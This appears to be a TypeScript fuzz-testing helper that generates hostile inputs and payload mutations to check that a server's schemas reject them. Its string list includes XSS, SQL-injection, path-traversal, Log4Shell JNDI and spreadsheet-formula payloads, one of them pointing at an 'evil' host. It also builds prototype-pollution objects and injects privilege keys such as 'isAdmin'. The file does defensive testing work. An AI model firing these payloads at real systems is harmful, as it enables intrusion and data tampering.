/**
 * Hostile inputs for the fuzz tests: bad values (wrong types, NaN/Infinity/-0, huge strings, deep
 * nesting, prototype-pollution keys, markup, bidi and control characters, mixed scripts) and
 * mutations that break a valid payload in one place (drop a field, replace it, add one).
 */
import fc from 'fast-check';
import type { z } from 'zod';

/** Strings a careless server might treat specially. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0x1A',
  '1_000',
  ' 7',
  '7 ',
  '٣',
  '７',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\u202Eevil\u202C',
  'a\u2066b\u2069',
  '\u0000',
  'a\u0007b',
  '\r\n',
  '👩‍🔧🏆',
  'Ана 张三 محمد',
  '__proto__',
  'constructor',
  'prototype',
  '../../etc/passwd',
  '%00',
  "'; DROP TABLE x;--",
  '${jndi:ldap://x}',
  '=HYPERLINK("http://evil")',
] as const;

/** Keys that pollute prototypes when merged carelessly. */
export const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** `{"__proto__":{…},"constructor":{"prototype":{…}}}` as JSON.parse builds it (own keys). */
export function pollutingObject(): unknown {
  return JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}');
}

/** `depth` nested arrays. */
export function deepArray(depth: number): unknown {
  return JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`);
}

/** `depth` nested objects {"a":{"a":…1}}. */
export function deepObject(depth: number): unknown {
  return JSON.parse(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
}

/** A bad value for any field; `hugeLength` bounds the long strings (sockets refuse > 64 KiB). */
export function hostileValue(hugeLength: number): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom<unknown>(...HOSTILE_STRINGS),
    fc.constantFrom<unknown>(
      NaN,
      Infinity,
      -Infinity,
      -0,
      Number.MAX_VALUE,
      -1,
      1e21,
      0.1 + 0.2,
      2 ** 53 + 1,
    ),
    fc.constantFrom<unknown>(null, true, false, [], {}, [1, 2, 3]),
    fc.string({ maxLength: 40 }),
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.integer(),
    fc.double(),
    fc.constant(null).map(() => 'x'.repeat(hugeLength)),
    fc.constant(null).map(() => '漢'.repeat(Math.floor(hugeLength / 3))),
    fc.constant(null).map(() => deepArray(300)),
    fc.constant(null).map(() => deepObject(300)),
    fc.constant(null).map(pollutingObject),
    fc.jsonValue({ maxDepth: 3 }),
  );
}

type Path = Array<string | number>;

/** Every path to a value inside `value` (objects and arrays), the root excluded. */
function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (typeof value !== 'object' || value === null) return out;
  for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
    const path = [...prefix, key];
    out.push(path);
    pathsOf((value as Record<string | number, unknown>)[key], path, out);
  }
  return out;
}

/** Set an own property, even one named __proto__ (plain assignment would change the prototype). */
function setOwn(target: object, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
}

export type Mutation =
  | { kind: 'drop'; at: number }
  | { kind: 'replace'; at: number; value: unknown }
  | { kind: 'extra'; at: number; key: string; value: unknown }
  | { kind: 'whole'; value: unknown };

/** A mutation of some payload: `at` picks a path (modulo the number of paths). */
export function mutation(hugeLength: number): fc.Arbitrary<Mutation> {
  const value = hostileValue(hugeLength);
  return fc.oneof(
    fc.record({ kind: fc.constant('drop' as const), at: fc.nat() }),
    fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), value }),
    fc.record({
      kind: fc.constant('extra' as const),
      at: fc.nat(),
      key: fc.oneof(
        fc.constantFrom(...POLLUTING_KEYS, 'isAdmin', 'role', 'judgeId'),
        fc.string({ maxLength: 10 }),
      ),
      value,
    }),
    fc.record({ kind: fc.constant('whole' as const), value }),
  );
}

/** A deep copy of `payload` with `m` applied. */
export function applyMutation(payload: unknown, m: Mutation): unknown {
  if (m.kind === 'whole') return m.value;
  const copy: unknown = structuredClone(payload);
  const paths = pathsOf(copy);
  // 'extra' may also target the root object.
  const candidates = m.kind === 'extra' ? [[], ...paths] : paths;
  const path = candidates[m.at % Math.max(1, candidates.length)] ?? [];
  if (m.kind === 'extra') {
    const target = valueAt(copy, path);
    if (typeof target === 'object' && target !== null && !Array.isArray(target))
      setOwn(target, m.key, m.value);
    else if (path.length > 0) setAt(copy, path, { [m.key]: m.value });
    return copy;
  }
  if (path.length === 0) return m.kind === 'drop' ? undefined : m.value;
  const parent = valueAt(copy, path.slice(0, -1));
  const key = path[path.length - 1] as string | number;
  if (m.kind === 'drop') {
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete (parent as Record<string, unknown>)[key];
  } else {
    setOwn(parent as object, key, m.value);
  }
  return copy;
}

function valueAt(root: unknown, path: Path): unknown {
  let v = root;
  for (const key of path) v = (v as Record<string | number, unknown>)[key];
  return v;
}

function setAt(root: unknown, path: Path, value: unknown): void {
  setOwn(valueAt(root, path.slice(0, -1)) as object, path[path.length - 1] as string | number, value);
}

/** What the server receives once `value` went through JSON (NaN → null, -0 → 0, undefined → null). */
export function overTheWire(value: unknown): unknown {
  return (JSON.parse(JSON.stringify([value])) as unknown[])[0];
}

/** True when `schema` refuses what the server would receive for `value`. */
export function refusedBy(schema: z.ZodType, value: unknown): boolean {
  return !schema.safeParse(overTheWire(value)).success;
}

/** Object.prototype's own keys now, to prove nothing was added to it. */
export function prototypeKeys(): string[] {
  return Object.getOwnPropertyNames(Object.prototype).sort();
}
